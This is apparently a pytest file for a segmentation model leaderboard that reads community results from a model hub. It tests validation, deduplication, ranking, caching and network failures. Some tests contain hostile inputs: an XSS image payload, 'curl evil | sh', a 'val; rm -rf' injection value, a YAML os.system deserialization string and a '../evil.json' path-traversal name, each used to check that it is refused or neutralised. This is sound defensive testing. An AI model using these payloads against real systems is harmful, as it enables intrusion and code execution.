"""Results from the Hub in the leaderboard: what is read, refused, a duplicate, and shown."""

import csv
import io
import json
import time
import zlib
from dataclasses import asdict, replace
from functools import partial

import numpy as np
import pytest
from hub_client import changed_config, files_of, hasty, save_checkpoint
from huggingface_hub import ModelCardData
from test_leaderboard import good_counts
from test_results import DIGESTS, change, write, write_hashed

from evaluation import leaderboard
from evaluation.benchmark.ports import refusing_port, silent_port
from evaluation.board import formats
from evaluation.board import hub_results as hub_results
from evaluation.board.hub_results import download_results, read_hub_results
from evaluation.board.live import LiveBoard
from evaluation.board.merging import Additions
from evaluation.counting.calibration import BINS
from zoo.checkpoints.card import eval_results, index_entries
from zoo.hub.catalog import Catalog
from zoo.hub.listing import AuthorScore, _author_scores, _index_scores, list_checkpoints, parse_eval_results
from zoo.hub.requests import HubError, HubUnreachable

CORRUPTION = {
    "corruption": "fog", "level": 1, "strength": 0.5, "miou": 0.5, "intersection": [1, 2], "union": [2, 4],
    "expected_calibration_error": 0.0, "calibration": [0] * 3 * BINS,
}  # fmt: skip
CORRUPTED = {"split": "val", "images": 4, "precision": "fp32", "found": [CORRUPTION]}
RESULTS = "board/results"
COMMIT = "b" * 40


@pytest.fixture(autouse=True)
def bootstrap(monkeypatch):
    """As in the results that `test_results.write` makes: few resamples, so that the tests take no time."""
    monkeypatch.setattr(hub_results, "BOOTSTRAP", {"resamples": 200, "block_frames": 3, "seed": 0})


@pytest.fixture
def shipped(tmp_path):
    """A folder of results as the repository ships them: one checkpoint, with the weights of sha256 aaa..."""
    write(tmp_path / "shipped", good_counts(100), name="ours", sha256="a" * 64)
    return tmp_path / "shipped"


@pytest.fixture
def named(settings):
    """Settings that name one results repository."""
    return replace(settings, results=(RESULTS,))


def result_files(folder, counts=None, repository="ana/net", sha256="c" * 64, counted=True, split="val", **facts):
    """{name: content} of a result that names a checkpoint on the Hub."""
    where = {"source": "hub", "repository": repository, "revision": facts.pop("revision", COMMIT)}
    name = facts.pop("name", repository.replace("/", "-"))
    path = write(folder, counts or good_counts(700), name=name, split=split, sha256=sha256, **where)
    for key, value in facts.items():
        change(path, *key.split("__"), value=value)
    files = files_of(folder)
    return files if counted else {name: content for name, content in files.items() if name.endswith(".json")}


def live_board(settings, shipped, root):
    catalog = Catalog(settings, root)
    return LiveBoard(catalog, partial(leaderboard.payload, shipped))


def rows_of(settings, shipped, tmp_path):
    live = live_board(settings, shipped, tmp_path / "none")
    return {row["name"]: row for row in live.refresh(wait=30)["rows"]}, live


# -- rows


def test_the_page_starts_with_the_shipped_rows_and_the_hubs_follow(hub, named, shipped, tmp_path):
    hub.add(f"datasets/{RESULTS}", result_files(tmp_path / "a"))
    live = live_board(named, shipped, tmp_path / "none")
    assert [row["name"] for row in live.payload()["rows"]] == ["ours"] and not hub.requests
    rows = {row["name"]: row for row in live.refresh(wait=30)["rows"]}
    assert list(rows) == ["ana/net", "ours"] and [row["rank"] for row in rows.values()] == [1, 2]
    assert (rows["ours"]["provenance"], rows["ana/net"]["provenance"]) == ("ours", "community")
    assert rows["ana/net"]["recomputed"] and rows["ana/net"]["revision"] == COMMIT
    low, high = rows["ana/net"]["miou_interval"]
    assert low < rows["ana/net"]["miou"] < high
    assert {"ana/net|ours", "ana/net|ours@camvid/val"} == set(live.payload()["pairs"])
    assert "read just now" in live.notes()[0] and live.notes()[0].in_language("pt-BR").endswith("lidos agora mesmo.")


def test_results_of_the_repositorys_owner_are_the_authors(hub, named, shipped, tmp_path):
    hub.add("datasets/ana/results", result_files(tmp_path / "a"))
    rows, _ = rows_of(replace(named, results=("ana/results",)), shipped, tmp_path)
    assert rows["ana/net"]["provenance"] == "author"


def test_a_result_without_counts_is_shown_as_stated_and_has_no_rank(hub, named, shipped, tmp_path):
    hub.add(f"datasets/{RESULTS}", result_files(tmp_path / "a", counted=False))
    rows, live = rows_of(named, shipped, tmp_path)
    row = rows["ana/net"]
    assert (row["rank"], row["recomputed"], row["miou_interval"], row["confusion_matrix"]) == (None, False, None, None)
    assert 0.5 < row["miou"] < 1 and live.payload()["pairs"] == {}
    json.dumps(live.payload(), allow_nan=False)
    for name, form in formats.FORMATS.items():
        assert "ana/net" in form(live.payload()), name


def test_the_same_weights_are_one_row_and_ours_goes_first(hub, named, shipped, tmp_path):
    files = result_files(tmp_path / "a", sha256="a" * 64)  # our weights, under another name
    files |= {f"x/{name}": data for name, data in result_files(tmp_path / "b", repository="bo/net").items()}
    files |= {f"y/{name}": data for name, data in result_files(tmp_path / "c", counted=False).items()}
    hub.add(f"datasets/{RESULTS}", files)
    rows, _ = rows_of(named, shipped, tmp_path)
    assert set(rows) == {"ours", "bo/net"} and rows["bo/net"]["recomputed"], "counts go before statements"


def test_another_protocol_is_another_row(hub, named, shipped, tmp_path):
    files = result_files(tmp_path / "a") | {
        f"x/{name}": data for name, data in result_files(tmp_path / "b", protocol__precision="bf16").items()
    }
    hub.add(f"datasets/{RESULTS}", files)
    live = live_board(named, shipped, tmp_path / "none")
    assert [row["name"] for row in live.refresh(wait=30)["rows"]].count("ana/net") == 2


def test_results_of_the_hub_join_by_what_their_images_hold(hub, named, tmp_path):
    """The same images under other names are ranked beside ours; others under the same names are left out."""
    write_hashed(tmp_path / "shipped", good_counts(100), name="ours", sha256="a" * 64)
    where = {"source": "hub", "revision": COMMIT}
    names = tuple(f"renamed_{index}" for index in range(6))
    write_hashed(tmp_path / "a", good_counts(700), DIGESTS, names, name="net", repository="ana/net", **where)
    other = (*DIGESTS[:5], "e" * 64)
    write_hashed(tmp_path / "b", good_counts(900), other, name="cheat", repository="bo/cheat", sha256="d" * 64, **where)
    files = {f"{folder}/{name}": content for folder in "ab" for name, content in files_of(tmp_path / folder).items()}
    hub.add(f"datasets/{RESULTS}", files)
    rows, live = rows_of(named, tmp_path / "shipped", tmp_path)
    assert {name: row["rank"] for name, row in rows.items()} == {"ana/net": 1, "ours": 2}
    assert "1 left out" in live.notes()[1] and "ana/net|ours@camvid/val" in live.payload()["pairs"]


# -- what cards claim


def test_cards_claims_stand_unranked_until_somebody_measures(hub, named, shipped, tmp_path):
    info = save_checkpoint(tmp_path / "net")
    config = json.loads((tmp_path / "net" / "config.json").read_text())
    notes = f"mean IoU in per cent; Weights sha256 {info.sha256}."
    entry = {"dataset": {"id": "camvid", "task_id": "val"}, "value": 61.5, "date": "2026-02-03", "notes": notes}
    files = files_of(tmp_path / "net") | {".eval_results/camvid.yaml": json.dumps([entry]).encode()}
    metrics = [{"type": "mean_iou", "value": 0.6}, {"type": "accuracy", "value": 0.9}]
    index = [{"name": "x", "results": [{"dataset": {"type": "camvid", "split": "val"}, "metrics": metrics}]}]
    hub.add("ana/net", files, listed_config=config, card={"model-index": index})
    settings = replace(named, authors=("ana",), results=())
    rows, live = rows_of(settings, shipped, tmp_path)
    row = rows["ana/net"]
    assert (row["miou"], row["pixel_accuracy"], row["date"]) == (0.615, 0.9, "2026-02-03")
    assert (row["rank"], row["provenance"], row["recomputed"], row["sha256"]) == (None, "author", False, info.sha256)
    assert (row["parameters"], row["gmacs"], row["images"]) == (info.parameters, None, None)
    for form in formats.FORMATS.values():
        assert "ana/net" in form(live.payload())
    hub.add(f"datasets/{RESULTS}", result_files(tmp_path / "a", sha256=info.sha256))
    rows, _ = rows_of(replace(settings, results=(RESULTS,)), shipped, tmp_path)
    assert rows["ana/net"]["recomputed"] and rows["ana/net"]["rank"] == 1


def test_scores_of_a_benchmark_repository_are_those_of_its_tasks(tmp_path):
    info = save_checkpoint(tmp_path / "net")
    document = {"checkpoint": {"sha256": info.sha256}, "dataset": {"name": "camvid", "split": "val"}, "protocol": {}}
    document |= {"scores": {"miou": 0.615, "pixel_accuracy": 0.9}, "environment": {"date": "2026-02-03"}}
    (text,) = eval_results(info, [document], "ana/streets").values()
    (found,) = parse_eval_results(text.encode(), info.sha256)
    assert found == {"dataset": "camvid", "split": "val", "value": 0.615, "date": "2026-02-03"}
    index = ModelCardData(eval_results=index_entries(info, [document], "ana/streets"), model_name="x").to_dict()
    item = {"id": "ana/net", "claims": [asdict(one) for one in _index_scores(index["model-index"])]}
    assert [(one.dataset, one.split, one.metric, one.value) for one in _author_scores(item)] == [
        ("camvid", "val", "mean_iou", 0.615),
        ("camvid", "val", "accuracy", 0.9),
    ]


def test_eval_results_are_read_once_per_commit(hub, settings, checkpoint):
    config = json.loads((checkpoint / "config.json").read_text())
    hub.add("ana/net", checkpoint, listed_config=config)
    settings = replace(settings, authors=("ana",))
    first = list_checkpoints(settings)
    assert sum(".eval_results" in request for request in hub.requests) == 1
    hub.requests.clear()
    assert list_checkpoints(settings, first.items).items == first.items and len(hub.requests) == 1
    hub.repositories["ana/net"].commit("main", files_of(checkpoint))
    list_checkpoints(settings, first.items)
    assert sum(".eval_results" in request for request in hub.requests) == 1


@pytest.mark.parametrize(
    "text",
    [
        "- [",
        "5",
        "- dataset: {id: camvid, task_id: val}\n  value: high\n  notes: mean IoU in per cent",
        "- dataset: {id: camvid, task_id: val}\n  value: 61\n  notes: some other metric",
        "- dataset: {id: camvid, task_id: val}\n  value: 61\n  notes: mean IoU in per cent; sha256 " + "0" * 64,
        "- dataset: camvid\n  value: 61\n  notes: mean IoU in per cent",
        "[" * 5000,
        "!!python/object/apply:os.system [id]",
    ],
)
def test_other_eval_results_are_passed_over(text):
    assert parse_eval_results(text.encode(), "c" * 64) == []


def test_a_claim_out_of_range_or_with_markup_is_no_score():
    from zoo.hub.listing import Listing

    entries = [
        {"dataset": "camvid", "split": "val", "value": value, "date": date}
        for value, date in ((1.2, ""), (float("nan"), ""), (0.5, "<b>"), (0.4, "2026"))
    ]
    scores = Listing((), (), 0.0, ({"id": "ana/net", "eval_results": entries},)).author_scores()
    assert scores == {"ana/net": (AuthorScore("camvid", "val", "mean_iou", 0.4, "2026"),)}


# -- strangers


@pytest.mark.parametrize(
    ("changes", "words"),
    [
        ({"scores__miou": 0.99}, "recomputed from the counts it is"),
        ({"scores__miou": 1.5}, "scores.miou: needs a number from 0 to 1"),
        ({"scores__dice": True}, "scores.dice"),
        ({"checkpoint__source": "folder"}, "publish the checkpoint"),
        ({"checkpoint__revision": "main"}, "is not a commit"),
        ({"checkpoint__repository": "../x"}, "does not name a repository"),
        ({"checkpoint__backbone": "a\u202eb"}, "control characters"),
        ({"checkpoint__loss": "x" * 2000}, "more than 200 characters"),
        ({"checkpoint__training": {"a\x00": 1}}, "control characters"),
        ({"checkpoint__training": {"list": [1.5] * 9000}}, "checkpoint.training"),
        ({"cost__gmacs": -1.0}, "cost.gmacs"),
        ({"cost__parameters": float("inf")}, "parameters"),
        ({"dataset__split": "val; rm -rf"}, "dataset.split"),
        ({"dataset__images": 7}, "matrices is"),
        ({"dataset__image_list_sha256": "0" * 64}, "image_list_sha256"),
        ({"dataset__classes": ["road", "car"]}, "matrices is"),
        ({"schema_version": 9}, "schema_version is 9"),
        ({"counts__sha256": "0" * 64}, "sha256"),
        ({"environment": 5}, "environment: needs dict"),
        ({"checkpoint__training": {"epochs": "80"}}, "checkpoint.training.epochs: needs a whole number"),
        ({"checkpoint__training": {"pretraining": [1]}}, "checkpoint.training.pretraining: needs a text"),
        ({"corruptions": {"found": [{"level": 1}]}}, "corruptions"),
        ({"corruptions": CORRUPTED | {"found": [CORRUPTION | {"miou": 0.99}]}}, "found[0].miou is 0.99, recomputed"),
        ({"corruptions": CORRUPTED | {"found": [CORRUPTION | {"union": [4]}]}}, "do not fit together"),
    ],
)
def test_what_does_not_hold_is_left_out_and_named(tmp_path, changes, words):
    result_files(tmp_path / "a", **changes)
    found, (problem,) = read_hub_results(tmp_path / "a", "board")
    assert not found and words in problem and str(tmp_path) not in problem


def test_whatever_a_file_ends_in_hides_that_row_alone(tmp_path, monkeypatch):
    result_files(tmp_path / "a" / "1")
    result_files(tmp_path / "a" / "2", repository="ben/net")
    real, calls = hub_results.read_result, []

    def read(path, **options):
        calls.append(path)
        if len(calls) == 1:
            raise zlib.error("invalid stored block lengths")  # an archive whose stream is damaged
        return real(path, **options)

    monkeypatch.setattr(hub_results, "read_result", read)
    (found,), (problem,) = read_hub_results(tmp_path / "a", "board")
    assert found.result.name == "ben/net" and "cannot be read (error)" in problem


def test_odd_files_cost_nothing_but_themselves(hub, named, shipped, tmp_path):
    files = result_files(tmp_path / "a")
    (name,) = [name for name in files if name.endswith(".json")]
    files |= {"results/junk.json": b"{", "deep.json": b"[" * 100_000, "big.json": b" " * 600_000, "run.py": b"print(1)"}
    files |= {"../evil.json": b"{}", "x/.hidden.json": b"{}", "x/list.json": b"[]"}
    files |= {f"bomb/{name}": files[name], f"bomb/{name[:-5]}.npz": b"PK" + b"\0" * 100}
    hub.add(f"datasets/{RESULTS}", files)
    rows, live = rows_of(named, shipped, tmp_path)
    assert set(rows) == {"ours", "ana/net"} and "5 left out" in live.notes()[1]
    assert not any("run.py" in request or "evil" in request for request in hub.requests)
    assert all(path.suffix in (".json", ".npz") for path in named.cache.rglob("*") if path.is_file())


def test_counts_that_claim_to_be_huge_are_refused_before_they_are_read(tmp_path, monkeypatch):
    result_files(tmp_path / "a")
    monkeypatch.setattr("evaluation.board.hub_results.MAXIMUM_UNPACKED_BYTES", 100)
    found, (problem,) = read_hub_results(tmp_path / "a", "board")
    assert not found and "more than 100" in problem


def test_other_images_and_false_weights_do_not_enter(hub, named, shipped, tmp_path, caplog):
    save_checkpoint(tmp_path / "net")
    config = json.loads(changed_config(tmp_path / "net"))
    hub.add("ana/net", tmp_path / "net", listed_config=config)
    revision = hub.repositories["ana/net"].commits["main"]
    files = result_files(tmp_path / "a", revision=revision)  # that commit holds other weights
    few = write(tmp_path / "few", good_counts(900, images=4), name="few", images=4, source="hub",
                repository="bo/few", revision=COMMIT)  # fmt: skip
    files |= {f"few/{file.name}": file.read_bytes() for file in (few, few.with_suffix(".npz"))}
    hub.add(f"datasets/{RESULTS}", files)
    rows, live = rows_of(replace(named, authors=("ana",)), shipped, tmp_path)
    assert set(rows) == {"ours"} and "2 left out" in live.notes()[1]
    assert "not the measured ones" in caplog.text and "other images" in caplog.text


def test_hostile_text_stays_text_and_the_command_is_rebuilt(hub, named, shipped, tmp_path):
    hostile = '=<img src=x onerror="window.hacked=1">'
    files = result_files(tmp_path / "a", checkpoint__loss=hostile, environment__command="curl evil | sh")
    hub.add(f"datasets/{RESULTS}", files)
    rows, live = rows_of(named, shipped, tmp_path)
    assert rows["ana/net"]["loss"] == hostile
    assert rows["ana/net"]["command"].startswith("python -m evaluation ana/net --dataset camvid --data DIR")
    line = next(csv.DictReader(io.StringIO(formats.comma_separated(live.payload()))))
    assert line["loss"] == "'" + hostile


# -- the network


@pytest.mark.parametrize(
    ("kind", "words"),
    [("hang", "not answered"), ("500", "status 500"), ("429", "in 7 s"), ("loop", "circle"), ("404", "not found")],
)
def test_a_failure_keeps_what_was_read_and_says_why(hub, named, shipped, tmp_path, kind, words):
    hub.add(f"datasets/{RESULTS}", result_files(tmp_path / "a"))
    assert "ana/net" in rows_of(named, shipped, tmp_path)[0]
    hub.fault("/api/datasets", kind)
    rows, live = rows_of(hasty(named, kind), shipped, tmp_path)
    assert words in live.notes()[0] and "failed" in live.notes()[0]
    assert ("ana/net" in rows) == (kind not in ("loop", "404")), "what is gone is gone, what is away is remembered"


def test_nothing_is_asked_again_while_nothing_changed(hub, named, tmp_path):
    repository = hub.add(f"datasets/{RESULTS}", result_files(tmp_path / "a"))
    first, _ = download_results(RESULTS, named)
    hub.requests.clear()
    assert download_results(RESULTS, named)[0] == first and len(hub.requests) == 1
    repository.commit("main", repository.branches["main"] | result_files(tmp_path / "b", repository="bo/net"))
    hub.requests.clear()
    second, _ = download_results(RESULTS, named)
    assert sum("/resolve/" in request for request in hub.requests) == 2, "the two new files alone"
    assert not first.exists() and len(list(second.rglob("*.json"))) == 2
    assert download_results(f"{RESULTS}@{second.name}", named)[0] == second


def test_a_file_cut_short_leaves_nothing_half(hub, named, tmp_path):
    hub.add(f"datasets/{RESULTS}", result_files(tmp_path / "a"))
    hub.fault(r"\.npz", "cut")
    with pytest.raises(HubUnreachable, match="broke off"):
        download_results(RESULTS, named)
    assert not [path for path in named.cache.rglob("*") if path.is_file()]


def test_a_hub_that_is_away_costs_a_note(named, shipped, tmp_path):
    with silent_port() as silent, refusing_port() as refusing:
        for endpoint, words in ((silent, "not answered"), (refusing, "no connection")):
            settings = replace(named, endpoint=endpoint, answer_seconds=0.5)
            begin = time.monotonic()
            live = live_board(settings, shipped, tmp_path / "none")
            live.refresh()
            assert time.monotonic() - begin < 2 and [row["name"] for row in live.payload()["rows"]] == ["ours"]
            live.refresh(wait=20)
            assert words in live.notes()[0] and "none shown" in live.notes()[0]


def test_without_settings_nothing_is_asked(hub, settings, shipped, tmp_path):
    live = live_board(settings, shipped, tmp_path / "none")
    assert live.refresh(force=True, wait=5)["rows"] and live.notes() == () and not hub.requests


# -- the commands


def test_a_result_is_submitted_and_comes_back(hub, monkeypatch, shipped, tmp_path, capsys):
    monkeypatch.setenv("HF_ENDPOINT", hub.endpoint)
    monkeypatch.setenv("FCN_ZOO_CACHE", str(tmp_path / "cache"))
    monkeypatch.setenv("FCN_ZOO_RESULTS", RESULTS)
    result_files(tmp_path / "a")
    (path,) = (tmp_path / "a").glob("*.json")
    assert leaderboard.main(["submit", str(path), RESULTS, "--dry-run"]) == 0
    assert "would send 2 files" in capsys.readouterr().out and f"datasets/{RESULTS}" not in hub.repositories
    assert leaderboard.main(["submit", str(path), RESULTS]) == 0
    assert f"/datasets/{RESULTS}" in capsys.readouterr().out
    assert leaderboard.main(["submit", str(path), RESULTS]) == 0
    assert "nothing sent" in capsys.readouterr().out
    assert leaderboard.main(["--results", str(shipped), "--hub", "--format", "csv"]) == 0
    printed = capsys.readouterr()
    assert [line["name"] for line in csv.DictReader(io.StringIO(printed.out))] == ["ana/net", "ours"]
    assert "read just now" in printed.err
    change(path, "scores", "miou", value=0.5)
    assert leaderboard.main(["submit", str(path), RESULTS]) == 1
    assert "recomputed from the counts" in capsys.readouterr().err


def test_merging_counts_is_exact(shipped, tmp_path):
    """The row of a stranger's counts has the figures that the shipped reader gives for the same counts."""
    result_files(tmp_path / "a")
    found, _ = read_hub_results(tmp_path / "a", "board")
    row = next(row for row in leaderboard.payload(shipped, Additions(tuple(found)))["rows"] if row["name"] == "ana/net")
    matrix = good_counts(700).matrices.sum(0)
    iou = np.diag(matrix) / (matrix.sum(0) + matrix.sum(1) - np.diag(matrix))
    assert row["miou"] == pytest.approx(iou.mean()) and row["confusion_matrix"] == matrix.tolist()


def test_a_repository_that_is_none_is_refused(named):
    with pytest.raises(HubError, match="does not name a repository"):
        download_results("x", named)
